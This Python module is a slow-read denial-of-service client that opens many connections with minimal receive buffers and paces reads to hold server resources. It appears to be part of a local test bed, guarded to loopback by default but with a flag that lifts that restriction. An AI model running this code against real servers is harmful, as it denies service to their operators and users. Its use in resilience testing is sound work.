"""Slow-read client: many connections, tiny receive buffers, paced reads.

User space cannot set the advertised TCP window directly. A minimal
``SO_RCVBUF`` plus slow application reads shrinks the window the kernel
advertises, which is the effect the attack relies on. Linux enforces a
floor of about 2.3 KB on the buffer and reopens the window in MSS-sized
steps, so server-side progress arrives in bursts rather than per read.
"""
from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass

from .guard import ensure_loopback

TCP_ESTABLISHED = 1


@dataclass
class WireAttackConfig:
    host: str = "127.0.0.1"
    port: int = 8080
    count: int = 60
    rcvbuf: int = 1024
    read_rate: float = 64.0  # bytes/s per connection
    hold: float = 20.0
    chunk: int = 16
    connect_timeout: float = 2.0
    allow_non_loopback: bool = False

    def __post_init__(self):
        if self.count < 0:
            raise ValueError("count must be >= 0")
        if self.read_rate <= 0 or self.chunk <= 0:
            raise ValueError("read_rate and chunk must be > 0")


class _Conn:
    __slots__ = ("sock", "status", "head", "bytes", "opened_at", "ended_at", "next_read")

    def __init__(self, sock, now):
        self.sock = sock
        self.status = None  # "opened" | "refused" | "error"
        self.head = b""
        self.bytes = 0
        self.opened_at = now
        self.ended_at = None
        self.next_read = now


def _tcp_state(sock) -> int:
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except (OSError, AttributeError):
        return -1


def request_bytes(host: str) -> bytes:
    return f"GET / HTTP/1.0\r\nHost: {host}\r\nUser-Agent: slowread-testbed\r\n\r\n".encode()


def slow_read_attack(cfg: WireAttackConfig, on_progress=None) -> dict:
    """Open ``cfg.count`` slow readers, hold them, release them.

    Returns a summary with ``opened`` (got a 200), ``refused`` (got a 503),
    ``connect_failed``, ``alive_at_end`` (opened and still established when
    the hold ends), ``closed_by_server`` and ``mean_read_rate`` (bytes/s per
    opened connection over its own lifetime).
    """
    host = ensure_loopback(cfg.host, cfg.allow_non_loopback)
    summary = {"opened": 0, "refused": 0, "connect_failed": 0, "alive_at_end": 0,
               "closed_by_server": 0, "unclassified": 0, "mean_read_rate": 0.0, "bytes_read": 0}
    if cfg.count == 0:
        return summary
    req = request_bytes(host)
    conns: list[_Conn] = []
    for _ in range(cfg.count):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, cfg.rcvbuf)
        s.settimeout(cfg.connect_timeout)
        try:
            s.connect((host, cfg.port))
            s.sendall(req)
        except OSError:
            s.close()
            summary["connect_failed"] += 1
            continue
        s.setblocking(False)
        conns.append(_Conn(s, time.monotonic()))

    interval = cfg.chunk / cfg.read_rate
    start = time.monotonic()
    end = start + cfg.hold
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for c in conns:
            if c.ended_at is not None or now < c.next_read:
                continue
            c.next_read += interval
            want = cfg.chunk
            if c.status is None:
                want = max(want, 12 - len(c.head))
            try:
                data = c.sock.recv(want)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = None
            if not data:
                c.ended_at = now
                if c.status is None:
                    c.status = "error"
                continue
            c.bytes += len(data)
            if c.status is None:
                c.head += data
                if len(c.head) >= 12:
                    c.status = "opened" if c.head[9:12] == b"200" else "refused"
                    if c.status == "refused":
                        c.ended_at = now
        if on_progress is not None:
            on_progress(now - start, conns)
        time.sleep(min(0.02, max(0.0, end - time.monotonic())))

    now = time.monotonic()
    rates = []
    for c in conns:
        if c.status == "opened":
            summary["opened"] += 1
            alive = c.ended_at is None and _tcp_state(c.sock) in (TCP_ESTABLISHED, -1)
            if alive:
                summary["alive_at_end"] += 1
            else:
                summary["closed_by_server"] += 1
            life = (c.ended_at or now) - c.opened_at
            if life > 0:
                rates.append(c.bytes / life)
        elif c.status == "refused":
            summary["refused"] += 1
        elif c.status == "error":
            summary["connect_failed"] += 1
        else:
            summary["unclassified"] += 1
        summary["bytes_read"] += c.bytes
        try:
            c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        c.sock.close()
    if rates:
        summary["mean_read_rate"] = round(sum(rates) / len(rates), 3)
    return summary
